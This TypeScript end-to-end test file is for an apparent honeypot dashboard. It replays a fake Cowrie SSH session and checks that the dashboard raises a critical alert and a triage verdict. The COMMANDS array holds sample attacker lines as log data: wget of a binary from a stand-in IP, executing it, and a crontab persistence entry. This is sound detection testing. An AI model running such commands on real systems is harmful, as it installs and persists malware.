import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import type { Page } from 'playwright-core'
import { beforeAll, expect, test } from 'vitest'
import { type Frame, writeAnimation } from './animation.js'
import { logIn, watchForProblems } from './browser.js'
import { platformOfFile } from './platform-of-file.js'
import { accessToken, PASSWORD, SENSOR_KEY } from './server-process.js'
import { recentCapture, sendLines } from './traffic.js'

/** Where the animation goes; unset: nothing is recorded. */
const RECORD = process.env['RECORD']
const PICTURE = fileURLToPath(new URL('../docs/images/attack.gif', import.meta.url))
const MAX_PICTURE_BYTES = 3_000_000
const WIDTH = 1280
const ANALYST = 'ana'
const ATTACKER = '198.51.100.23'
const COMMANDS = [
  'uname -a',
  'cd /tmp; wget http://192.0.2.66/bins/x86 -O .x',
  'chmod 777 .x; ./.x',
  '(crontab -l; echo "*/5 * * * * /tmp/.x") | crontab -',
]

const platform = platformOfFile({ BOOTSTRAP_SENSOR_KEY: SENSOR_KEY })
beforeAll(async () => {
  const token = await accessToken(platform.url)
  await fetch(`${platform.url}/users`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ username: ANALYST, password: PASSWORD, role: 'analyst' }),
  })
})

/** Two pages, one below the other: what the attacker types, and what the analyst sees. */
async function openScene() {
  const context = await platform.browser.newContext({ colorScheme: 'dark', reducedMotion: 'reduce' })
  const terminal = await context.newPage()
  await terminal.setViewportSize({ width: WIDTH, height: 168 })
  const dashboard = await context.newPage()
  await dashboard.setViewportSize({ width: WIDTH, height: 640 })
  const frames: Frame[] = []
  return {
    dashboard,
    frames,
    /** Shows text as a terminal does; it is text, whatever it says. */
    async type(lines: readonly string[]) {
      await terminal.setContent(
        '<body style="margin:0;background:#0b0f13"><pre style="margin:0;padding:14px 18px;font:15px/1.45 monospace;color:#d7e0e8"></pre></body>',
      )
      await terminal.locator('pre').evaluate((pre, text) => {
        pre.textContent = text
      }, lines.join('\n'))
    },
    async frame(shownMs: number) {
      if (RECORD === undefined) return
      frames.push({ screenshots: [await terminal.screenshot(), await dashboard.screenshot()], shownMs })
    },
  }
}

async function sendCowrie(eventid: string, facts: object = {}): Promise<void> {
  const record = {
    eventid,
    src_ip: ATTACKER,
    session: 'attack',
    sensor: 'cowrie-1',
    protocol: 'ssh',
    timestamp: new Date().toISOString(),
    ...facts,
  }
  await sendLines(platform.url, [JSON.stringify(record)])
}

/** The attacker's part: each line is sent as Cowrie writes it, once it was typed. */
async function attack({ type, frame }: Awaited<ReturnType<typeof openScene>>): Promise<void> {
  const screen = [`The attacker, ${ATTACKER}, on a Cowrie sensor:`, '$ ssh root@server']
  await type(screen)
  await frame(1200)
  await sendCowrie('cowrie.session.connect')
  await sendCowrie('cowrie.login.success', { username: 'root', password: 'changeme' })
  for (const input of COMMANDS) {
    const half = Math.ceil(input.length / 2)
    await type([...screen, `root@server:~# ${input.slice(0, half)}▌`])
    await frame(300)
    screen.push(`root@server:~# ${input}`)
    await type(screen)
    await sendCowrie('cowrie.command.input', { input })
    await frame(700)
  }
}

async function judge(page: Page, frame: (shownMs: number) => Promise<void>): Promise<void> {
  const alert = page
    .getByRole('list', { name: 'Newest alerts' })
    .getByRole('listitem')
    .filter({ hasText: ATTACKER })
  await alert.filter({ hasText: 'critical' }).first().waitFor()
  await frame(2200)
  await alert.filter({ hasText: 'critical' }).first().getByRole('button').click()
  const dialog = page.getByRole('dialog')
  await dialog.getByText('History').waitFor()
  await frame(2000)
  await dialog
    .getByRole('link', { name: /session/i })
    .first()
    .click()
  await page.getByRole('heading', { name: /Session of/ }).waitFor()
  await page.getByRole('region', { name: 'Score breakdown' }).waitFor()
  await frame(2400)
  await page.getByRole('button', { name: 'Analyse this session' }).click()
  const triage = page.getByRole('region', { name: 'Triage' })
  await triage.getByText('by rules', { exact: true }).waitFor()
  await triage.evaluate((element) => element.scrollIntoView({ block: 'start' }))
  await frame(5000)
}

test('an attack becomes an alert while it happens, and a verdict with its reasons', async () => {
  const scene = await openScene()
  const { dashboard, frames } = scene
  const problems = watchForProblems(dashboard, platform.url)
  await sendLines(platform.url, recentCapture())
  await dashboard.goto(platform.url)
  await logIn(dashboard, ANALYST)
  await dashboard.getByText('Feed connected').waitFor()
  await dashboard.getByRole('region', { name: 'Top attackers' }).getByRole('row').nth(1).waitFor()
  await dashboard.locator('canvas').first().waitFor()
  await attack(scene)
  await judge(dashboard, scene.frame)
  expect(problems).toEqual([])
  if (RECORD !== undefined) writeAnimation(RECORD, frames)
})

test('the README shows it, as an animation of less than 3 MB', () => {
  const picture = readFileSync(PICTURE)
  expect(picture.subarray(0, 6).toString('latin1')).toBe('GIF89a')
  expect(picture.length).toBeLessThan(MAX_PICTURE_BYTES)
  const readme = readFileSync(new URL('../README.md', import.meta.url), 'utf8')
  expect(readme).toContain('](docs/images/attack.gif)')
})
